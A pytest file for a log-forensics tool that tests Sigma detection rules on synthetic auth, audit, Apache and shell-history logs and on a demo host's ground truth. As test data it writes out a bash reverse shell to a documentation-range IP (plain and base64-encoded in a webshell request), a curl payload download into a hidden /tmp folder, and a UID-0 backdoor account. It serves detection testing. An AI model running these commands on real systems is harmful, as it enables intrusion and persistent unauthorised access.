"""Sigma rules over parsed logs: a small host written here, and the demo web server's ground truth."""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from breachkit import tables
from breachkit.demo import DemoHost
from breachkit.findings import Finding, Severity
from breachkit.logs import analyze
from breachkit.logs.sigma import SigmaResult, load_rules, run_sigma
from breachkit.sources import RootSource

DATA = Path(__file__).parents[2] / "data" / "logs" / "sigma"
RULES = DATA / "rules"

WEBSHELL = "sigma.60ccd277-2bde-4f72-aa36-69509862fb54"
SCANNER = "sigma.c02dc2e2-7527-4046-ac5d-24dff81831e0"
BASE64 = "sigma.c1297f5f-987d-467b-b75b-17ab5aae71ec"
SSH_INVALID = "sigma.29b281d0-8079-452b-8a54-f4ef5d2b2a35"
CRON_TMP = "sigma.e55e31d5-ebbe-4082-9271-c21ada69c8e4"
USERADD = "sigma.4594c748-038b-4fcf-999b-d8661658b251"
AUDIT_DOWNLOAD = "sigma.c80df923-438f-4495-a2d4-e02c2ba0e790"
REVERSE_SHELL = "sigma.0ab8dc32-5ad9-4635-8bba-5014809209f3"

AUTH_LOG = """\
2026-11-21T22:51:03.120044+01:00 web01 sudo:   thomas : TTY=pts/0 ; PWD=/home/thomas ; USER=root ; COMMAND=/usr/sbin/useradd -m anna
2026-11-21T22:51:03.121002+01:00 web01 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by thomas(uid=1000)
2026-11-21T23:58:40.771301+01:00 web01 sudo: www-data : TTY=unknown ; PWD=/var/www/shop/htdocs/images ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 -m -s /bin/bash sysupd
2026-11-21T23:58:40.772100+01:00 web01 useradd[48812]: new user: name=sysupd, UID=0, GID=1003, home=/home/sysupd, shell=/bin/bash, from=none
2026-11-22T00:02:11.000412+01:00 web01 sshd[48850]: Invalid user sysadm from 198.51.100.204 port 55351
2026-11-22T00:02:13.500412+01:00 web01 sshd[48850]: Failed password for invalid user sysadm from 198.51.100.204 port 55351 ssh2
2026-11-22T00:05:40.000100+01:00 web01 sshd[48870]: Accepted publickey for thomas from 192.0.2.10 port 50122 ssh2: ED25519 SHA256:q8sK2
"""


def _audit(serial: int, epoch: str, comm: str, argv: list[str], cwd: str) -> str:
    head = f"msg=audit({epoch}:{serial}):"
    args = " ".join(f'a{i}="{arg}"' for i, arg in enumerate(argv))
    return (
        f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2 a1=55d1c8 a2=55d1d0 a3=0 "
        f'items=2 ppid=2211 pid={serial} auid=4294967295 uid=33 gid=33 euid=33 ses=4294967295 comm="{comm}" '
        f'exe="/usr/bin/{comm}" key="exec"\n'
        f"type=EXECVE {head} argc={len(argv)} {args}\n"
        f'type=CWD {head} cwd="{cwd}"\n'
        f"type=EOE {head}\n"
    )


AUDIT_LOG = (
    _audit(
        4711, "1795815520.120", "curl", ["curl", "-so", "/tmp/.X11-cache/kworkerd", "http://198.51.100.23/k.bin"], "/"
    )
    + _audit(4712, "1795815600.000", "curl", ["curl", "-so", "/home/thomas/backup.tar", "https://backup.example/"], "/")
    + _audit(4713, "1795815660.000", "wget", ["wget", "-q", "https://wordpress.org/latest.zip"], "/tmp")
)
PAYLOAD = base64.b64encode(b"x;bash -i >& /dev/tcp/198.51.100.23/4444 0>&1").decode()
ACCESS_LOG = f"""\
192.0.2.44 - - [21/Nov/2026:22:10:01 +0100] "GET /index.php HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
198.51.100.9 - - [21/Nov/2026:22:11:45 +0100] "GET /phpmyadmin/ HTTP/1.1" 404 196 "-" "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"
203.0.113.77 - - [21/Nov/2026:23:52:10 +0100] "GET /images/thumb_cache.php?x={PAYLOAD} HTTP/1.1" 200 242 "-" "curl/8.5.0"
203.0.113.77 - - [21/Nov/2026:23:52:30 +0100] "POST /images/thumb_cache.php HTTP/1.1" 200 242 "-" "curl/8.5.0"
127.0.0.1 - - [21/Nov/2026:23:55:00 +0100] "POST /cron.php HTTP/1.1" 200 12 "-" "curl/7.88.1"
192.0.2.44 - - [21/Nov/2026:23:56:00 +0100] "GET /shop/?cmd=list&page=2 HTTP/1.1" 200 4410 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
"""
HISTORY = "ls -la\ncd /tmp\nbash -i >& /dev/tcp/198.51.100.23/443 0>&1\nexit\n"


@pytest.fixture(scope="module")
def small_host(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("sigma-host") / "root"
    for path, text in (
        ("var/log/auth.log", AUTH_LOG),
        ("var/log/audit/audit.log", AUDIT_LOG),
        ("var/log/apache2/access.log", ACCESS_LOG),
        ("root/.bash_history", HISTORY),
        ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"),
        ("etc/timezone", "Europe/Berlin\n"),
    ):
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    return root


def _run(root: Path, case_dir: Path, *rule_paths: Path) -> SigmaResult:
    source = RootSource(str(root))
    con = tables.connect(case_dir)
    try:
        analyze(source, con=con)
        return run_sigma(con, load_rules(rule_paths))
    finally:
        con.close()
        source.close()


@pytest.fixture(scope="module")
def small(small_host: Path, tmp_path_factory: pytest.TempPathFactory) -> SigmaResult:
    return _run(small_host, tmp_path_factory.mktemp("sigma-case"), RULES, DATA / "unsupported")


def _finding(result: SigmaResult, check: str) -> Finding:
    found = [f for f in result.findings if f.check == check]
    assert len(found) == 1, f"{check} not reported once; got {[f.check for f in result.findings]}"
    return found[0]


def _lines(finding: Finding) -> list[tuple[str | None, int | None]]:
    return [(e.path, e.line) for e in finding.evidence]


def test_each_rule_hits_exactly_its_lines(small: SigmaResult) -> None:
    useradd = _finding(small, USERADD)
    assert _lines(useradd) == [("/var/log/auth.log", 3)]  # not the admin's own sudo useradd on line 1
    assert useradd.severity == Severity.CRITICAL
    assert "sysupd" in (useradd.evidence[0].excerpt or "")
    download = _finding(small, AUDIT_DOWNLOAD)
    assert len(download.evidence) == 1 and download.evidence[0].path == "/var/log/audit/audit.log"
    assert download.evidence[0].line == 1  # the first record of the event
    assert "/tmp/.X11-cache/kworkerd" in (download.evidence[0].excerpt or "")
    assert download.severity == Severity.HIGH
    assert _lines(_finding(small, BASE64)) == [("/var/log/apache2/access.log", 3)]
    assert _lines(_finding(small, SCANNER)) == [("/var/log/apache2/access.log", 2)]
    assert _lines(_finding(small, SSH_INVALID)) == [("/var/log/auth.log", 5), ("/var/log/auth.log", 6)]
    assert _lines(_finding(small, REVERSE_SHELL)) == [("/root/.bash_history", 3)]
    # The shop's own ?cmd=list paging is a webshell-looking parameter: Sigma's rule fires, as written.
    assert _lines(_finding(small, WEBSHELL)) == [("/var/log/apache2/access.log", 6)]
    post = _finding(small, "sigma.59057a3b-6be1-4d40-8761-0ec5f8a766eb")
    assert _lines(post) == [("/var/log/apache2/access.log", 4)]  # the localhost cron POST is filtered
    assert not any(f.check == CRON_TMP for f in small.findings)  # no cron log on this host


def test_every_rule_is_accounted_for(small: SigmaResult) -> None:
    evaluated = {Path(r.path).name for r in small.evaluated}
    refused = {Path(p.path).name: p.kind for p in small.not_evaluated}
    assert evaluated == {p.name for p in RULES.rglob("*.yml")}
    assert refused == {
        "correlation.yml": "unsupported-feature",
        "fieldref.yml": "unsupported-value",
        "lookbehind_regex.yml": "unsupported-value",
        "near_download_exec.yml": "unsupported-feature",
        "ssh_failures_count.yml": "unsupported-feature",
        "utf16_modifier.yml": "unsupported-modifier",
        "web_cookie_field.yml": "unknown-field",
        "windows_process.yml": "unsupported-logsource",
    }
    assert small.rows["webserver"] == 6
    matched = {r.title: r.matches for r in small.evaluated}
    assert matched["Cron Job Runs A Program From A Temporary Folder"] == 0
    data = small.to_json()
    assert data["rules_evaluated"] == len(evaluated) and data["rules_matched"] == len(small.findings)


def test_malformed_and_hostile_rule_files(tmp_path: Path) -> None:
    rules = load_rules([DATA / "malformed"])
    # pySigma accepts a condition naming a missing selection; breachkit's condition parser does not.
    assert [Path(r.path).name for r in rules.rules] == ["unknown_selection.yml"]
    refused = run_sigma(tables.connect(None), rules).not_evaluated
    kinds = {Path(p.path).name: p.kind for p in refused}
    assert kinds == {
        "billion_laughs.yml": "unsupported-yaml",
        "broken_yaml.yml": "invalid",
        "latin1.yml": "invalid",
        "no_condition.yml": "invalid",
        "not_a_mapping.yml": "invalid",
        "unknown_selection.yml": "invalid",
    }
    huge = tmp_path / "huge.yml"
    huge.write_text(
        "title: x\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-ip: [" + "'1.2.3.4'," * 150_000 + "]\n"
    )
    regex = tmp_path / "regex.yml"
    regex.write_text(
        "title: Huge regex\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-useragent|re: '"
        + "(a|b)" * 3000
        + "'\n  condition: s\n"
    )
    (tmp_path / "notes.txt").write_text("not a rule")
    loaded = load_rules([tmp_path])
    by_name = {Path(p.path).name: p for p in loaded.problems}
    assert by_name["huge.yml"].kind == "unreadable"
    result = run_sigma(tables.connect(None), loaded)
    assert [(Path(p.path).name, p.kind) for p in result.not_evaluated if p.path.endswith("regex.yml")] == [
        ("regex.yml", "unsupported-value")
    ]
    assert len(loaded.rules) == 1 and result.evaluated == []


def test_missing_tables_give_no_rows_not_an_error() -> None:
    result = run_sigma(tables.connect(None), load_rules([RULES]))
    assert result.findings == [] and all(r.matches == 0 for r in result.evaluated)
    assert set(result.rows.values()) == {0}


# --- the demo host ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo(demo_host: DemoHost, tmp_path_factory: pytest.TempPathFactory) -> SigmaResult:
    return _run(demo_host.root, tmp_path_factory.mktemp("sigma-demo"), RULES)


def _requests(finding: Finding) -> set[tuple[str | None, str]]:
    return {(e.path, (e.excerpt or "").split('"')[1].split(" ")[1]) for e in finding.evidence}


def _raw_lines(root: Path, folder: str, prefix: str) -> Iterator[str]:
    for path in sorted((root / folder).glob(prefix + "*")):
        data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
        yield from data.decode("utf-8", "replace").splitlines()


def test_demo_webshell_rule_hits_exactly_the_attackers_commands(demo: SigmaResult, demo_host: DemoHost) -> None:
    truth = demo_host.scenario.ground_truth
    expected = {(r.log_path, r.target) for r in truth.attacker_requests if "cmd=" in r.target}
    finding = _finding(demo, WEBSHELL)
    assert len(finding.evidence) == len(expected) == 17
    assert _requests(finding) == expected
    assert finding.severity == Severity.HIGH


def test_demo_scanner_rule_hits_the_scanners_and_no_visitor(demo: SigmaResult, demo_host: DemoHost) -> None:
    truth = demo_host.scenario.ground_truth
    tools = ("gobuster", "dirbuster", "nikto", "sqlmap", "wfuzz", "feroxbuster", "nuclei", "wpscan", "zgrab")
    agents = [
        line.rsplit('"', 2)[-2].lower() for line in _raw_lines(Path(demo_host.root), "var/log/apache2", "*access.log")
    ]
    by_tool = {tool: sum(1 for agent in agents if tool in agent) for tool in tools}
    scan = [r for r in truth.attacker_requests if r.purpose == "directory scan"]
    assert by_tool["gobuster"] == len(scan) > 0  # the attacker's scan, every request of it
    outcome = next(r for r in demo.evaluated if r.title == "Offensive Scanner User Agent")
    assert outcome.matches == sum(by_tool.values())
    finding = _finding(demo, SCANNER)
    assert all(any(t in (e.excerpt or "").rsplit('"', 2)[-2].lower() for t in tools) for e in finding.evidence)


def test_demo_cron_and_ssh_rules_count_what_grep_counts(demo: SigmaResult, demo_host: DemoHost) -> None:
    root = Path(demo_host.root)
    cron = [line for line in _raw_lines(root, "var/log", "syslog") if "CRON[" in line and "/tmp/" in line]
    outcome = {r.title: r.matches for r in demo.evaluated}
    assert outcome["Cron Job Runs A Program From A Temporary Folder"] == len(cron) > 0
    assert all("/tmp/.X11-cache/run.sh" in (e.excerpt or "") for e in _finding(demo, CRON_TMP).evidence)
    ssh = [
        line for line in _raw_lines(root, "var/log", "auth.log") if " sshd[" in line and "invalid user" in line.lower()
    ]
    assert outcome["SSH Login Attempt For A Non-Existent User"] == len(ssh) > 0
    assert outcome["User Account Created Through Sudo By A Service Account"] == 0
    assert outcome["Base64-Encoded Reverse Shell In Request"] == 0


def _outcomes(result: SigmaResult) -> dict[str, tuple[int, list[tuple[str | None, int | None]]]]:
    findings = {f.title.removeprefix("Sigma: "): _lines(f) for f in result.findings}
    return {r.title: (r.matches, findings.get(r.title, [])) for r in result.evaluated}


def test_prefilter_changes_speed_not_results(
    small_host: Path, demo_host: DemoHost, tmp_path_factory: pytest.TempPathFactory
) -> None:
    for root in (small_host, Path(demo_host.root)):
        case = tmp_path_factory.mktemp("sigma-prefilter")
        source = RootSource(str(root))
        con = tables.connect(case)
        try:
            analyze(source, con=con)
            rules = load_rules([RULES])
            with_sql = run_sigma(con, rules, prefilter=True)
            python_only = run_sigma(con, rules, prefilter=False)
        finally:
            con.close()
            source.close()
        assert _outcomes(with_sql) == _outcomes(python_only)
        assert with_sql.rows == python_only.rows


def test_prefilter_lets_non_ascii_text_through_to_python(tmp_path: Path) -> None:
    from breachkit.logs.webload import WEB_COLUMNS

    rule = tmp_path / "kelvin.yml"
    rule.write_text(
        "title: Kelvin\nlogsource: {category: webserver}\n"
        "detection:\n  s:\n    c-useragent|contains: 'kelvin'\n    cs-method: 'get'\n  condition: s\nlevel: low\n"
    )
    con = tables.connect(None)
    tables.create_table(con, "web_requests", WEB_COLUMNS)
    rows: list[Any] = []
    for line, agent in enumerate(["\u212aELVIN-probe/1.0", "KELVIN/2", "Mozilla/5.0", None], 1):
        rows.append(
            [1, "shop", "192.0.2.1", None, "GET", "/", "/", "HTTP/1.1", 200, 1, None, agent, "shop", "a.log", line, ""]
        )
    tables.append_rows(con, "web_requests", WEB_COLUMNS, rows)
    for prefilter in (True, False):
        result = run_sigma(con, load_rules([rule]), prefilter=prefilter)
        # U+212A KELVIN SIGN lower-cases to an ASCII 'k' in Python: the rule matches it, as Sigma says.
        assert [e.line for f in result.findings for e in f.evidence] == [1, 2]


def test_prefilter_agrees_with_python_on_mixed_text(tmp_path: Path) -> None:
    import random

    from breachkit.logs.webload import WEB_COLUMNS

    rng = random.Random(6)
    alphabet = ["a", "B", "k", "K", "\u212a", "\u0130", "i", "\u00df", "S", "/", " ", "?", "%"]
    values: list[str | None] = [None, ""]
    values += ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 6))) for _ in range(300)]
    con = tables.connect(None)
    tables.create_table(con, "web_requests", WEB_COLUMNS)
    rows = [
        [1, "s", "192.0.2.1", None, "GET", "/", "/", "HTTP/1.1", 200, 1, None, agent, "s", "a.log", n, ""]
        for n, agent in enumerate(values, 1)
    ]
    tables.append_rows(con, "web_requests", WEB_COLUMNS, rows)
    modifiers = ["", "|contains", "|startswith", "|endswith"]
    for index in range(40):
        needles = ["".join(rng.choice("aBkKsS/i ") for _ in range(rng.randint(1, 3))) for _ in range(2)]
        rule = tmp_path / f"r{index}.yml"
        rule.write_text(
            f"title: r{index}\nlogsource: {{category: webserver}}\ndetection:\n  s:\n"
            f"    c-useragent{rng.choice(modifiers)}: {json.dumps(needles)}\n  condition: s\nlevel: low\n"
        )
    rules = load_rules([tmp_path])
    assert len(rules.rules) == 40
    assert _outcomes(run_sigma(con, rules, prefilter=True)) == _outcomes(run_sigma(con, rules, prefilter=False))
